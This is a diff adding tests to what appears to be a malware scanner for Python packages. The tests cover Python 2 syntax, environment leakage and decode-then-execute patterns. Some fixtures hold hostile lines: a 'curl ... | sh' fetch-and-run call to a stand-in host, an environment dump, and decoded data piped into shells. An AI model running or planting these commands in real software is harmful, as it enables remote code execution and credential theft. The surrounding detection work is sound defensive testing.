@@ -1411,7 +1411,7 @@ def test_an_honest_module_in_newer_syntax_is_not_an_unread_file(newer_parser):
 
 
 def test_code_no_parser_reads_is_still_a_parse_failure_naming_both_parsers(newer_parser):
-    result = scan({"setup.py": SETUP, "demo/__init__.py": "print 'python 2'\nexec data\n"})
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "def f(:\n    pass\n"})
     [gap] = found(result, "analysis.parse-failed")
     running = f"Python {sys.version_info.major}.{sys.version_info.minor}"
     newer = newer_parser.rpartition("/")[2]
@@ -1996,3 +1996,178 @@ def test_a_pth_anywhere_in_an_sdist_counts_as_startup_code():
     )
     result = analyze(Artifact("demo-1.0.tar.gz", "sdist", "demo", "1.0", members=members))
     assert result.verdict == "malicious", result.findings
+
+
+# -- Python 2 that no Python 3 compiles cannot run --------------------------------------------
+
+PY2_MODULE = """
+    __version__ = "0.3"
+    import sys
+
+    def dumps(value):
+        try:
+            return _impl.dumps(value)
+        except _impl.error, exc:
+            raise TypeError, TypeError(*exc.args), sys.exc_info()[2]
+
+    if __name__ == "__main__":
+        print "run as a script: not supported"
+"""
+PY2_SETUP = """
+    import re
+    from setuptools import setup
+    for name in ("simplejson", "json"):
+        try:
+            __import__(name)
+        except ImportError:
+            pass
+    meta = open("demo/__init__.py").read()
+    setup(name="demo", version=re.search(r'__version__ = "(.*)"', meta).group(1))
+"""
+
+
+def test_a_python_2_module_setup_py_reads_cannot_run_and_does_not_block():
+    result = scan({"setup.py": PY2_SETUP, "demo/__init__.py": PY2_MODULE})
+    assert not found(result, "analysis.parse-failed")
+    [gap] = found(result, "analysis.python2")  # said, not silent
+    assert gap.severity == "low" and gap.line == 9 and "raise" in gap.message
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "line, what",
+    [
+        ('print "x"', "print statement"),
+        ("exec code_text", "exec statement"),
+        ("MODE = 0755", "octal"),
+        ("BIG = 10L", "long"),
+        ("text = `value`", "backquoted"),
+        ("same = a <> b", "<>"),
+    ],
+)
+def test_each_python_2_form_is_known_as_one(line, what):
+    gap = coverage.parse_failed(f"import os\n\n{line}\n")
+    assert gap.rule == "analysis.python2" and gap.line == 3 and what in gap.why
+
+
+def test_except_pair_alone_is_not_python_2_since_3_14_reads_it_as_a_tuple():
+    """PEP 758: ``except A, B:`` compiles on 3.14 (as ``except (A, B):``), so a module whose
+    only Python 2 look is that line runs there, and what it holds is code that runs."""
+    src = "try:\n    pass\nexcept ValueError, KeyError:\n    pass\n" + HIDDEN_TAIL
+    assert coverage.parse_failed(src).rule == "analysis.parse-failed"
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    assert any(g.severity != "low" for g in found(result, "analysis.parse-failed"))
+
+
+HIDDEN_TAIL = "import os\nos.system('curl -s http://example.invalid/x | sh')\n"
+
+
+def test_a_syntax_error_before_the_python_2_line_stays_a_blocking_gap():
+    """Only the parser's first error counts: a file that fails earlier for another reason (newer
+    syntax this Python lacks) may compile elsewhere, up to a print statement it never reaches."""
+    src = "def f(:\n    pass\n" + HIDDEN_TAIL + 'print "x"\n'
+    setup = (
+        "import subprocess, sys\n" + SETUP + 'subprocess.call([sys.executable, "tools/boot.py"])\n'
+    )
+    result = scan({"setup.py": setup, "demo/__init__.py": "", "tools/boot.py": src})
+    assert not found(result, "analysis.python2")
+    assert any(g.severity == "high" for g in found(result, "analysis.parse-failed"))
+    assert result.verdict in FLAGGED
+
+
+def test_a_print_statement_inside_a_string_is_not_python_2():
+    src = 'HELP = """\nprint "x"\n"""\nx = f(:\n' + HIDDEN_TAIL
+    assert coverage.parse_failed(src).rule == "analysis.parse-failed"
+
+
+# -- a process's exit status is a number, not the environment it was given --------------------
+
+RUN_WITH_ENV = """
+    import os
+    import subprocess
+    import requests
+
+    def run(*argv, stdin=None):
+        env = os.environ.copy()
+        env["LANG"] = "C"
+        p = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=env)
+        out, _ = p.communicate(stdin)
+        return p.returncode, out
+
+    def credentials(url):
+        rc, out = run("git", "credential", "fill", stdin=url)
+        {use}
+
+    def fetch(url, **options):
+        res = requests.get(url, **options)
+        if res.status_code == 401:
+            options["auth"] = credentials(url)
+            res = requests.get(url, **options)
+        return res
+"""
+
+
+def test_the_exit_status_of_a_process_started_with_the_environment_is_not_the_environment():
+    honest = RUN_WITH_ENV.format(use="return None if rc else tuple(out.split())")
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cmd.py": honest})
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
+def test_what_a_process_started_with_the_environment_prints_still_carries_it():
+    hostile = RUN_WITH_ENV.format(
+        use="p = subprocess.Popen(['env'], stdout=subprocess.PIPE, "
+        "env=os.environ.copy())\n        return p.stdout.read()"
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cmd.py": hostile})
+    assert found(result, "intent.exfiltration")
+
+
+# -- a password fed to a login command on its standard input is data ---------------------------
+
+LOGIN_WITH_TOKEN = """
+    import base64
+    import subprocess
+
+    def login(client, registry):
+        data = client.get_authorization_token()["authorizationData"][0]
+        token = base64.b64decode(data["authorizationToken"]).decode().removeprefix("AWS:")
+        subprocess.run(COMMAND, input=token.encode())
+"""
+
+
+def test_a_decoded_token_fed_to_a_login_that_reads_its_password_on_stdin_is_not_run():
+    command = '["docker", "login", "-u", "AWS", "--password-stdin", registry]'
+    src = LOGIN_WITH_TOKEN.replace("COMMAND", command)
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/ecr.py": src})
+    assert not found(result, "intent.decode-execute")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        '["sh", "-s", "--password-stdin"]',  # a shell reads its program there, whatever follows
+        '["/usr/bin/python3", "-", "--password-stdin"]',
+        '["sudo", "-S", "docker", "login", "--password-stdin", registry]',
+        '["docker", "exec", "-i", "c1", "sh"]',  # no password flag: stdin may be a program
+        '[tool, "--password-stdin"]',  # a program chosen at run time
+    ],
+)
+def test_decoded_data_fed_to_a_shell_or_interpreter_stays_decode_and_execute(command):
+    src = LOGIN_WITH_TOKEN.replace("COMMAND", command).replace("registry)", "registry, tool='x')")
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/ecr.py": src})
+    assert found(result, "intent.decode-execute")
+
+
+def test_python_2_is_no_proof_when_running_code_executes_text_it_may_have_edited():
+    """setup.py can drop the print statement before running the rest: then the file runs."""
+    setup = SETUP.replace(
+        "setup(", "exec(open('demo/core.py').read().replace(\"print 'x'\", ''))\nsetup("
+    )
+    core = "print 'x'\n" + HIDDEN_TAIL
+    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/core.py": core})
+    assert not found(result, "analysis.python2")
+    [gap] = found(result, "analysis.parse-failed")
+    assert gap.severity == "high" and "setup.py:2 executes text" in gap.message
+    assert result.verdict in FLAGGED
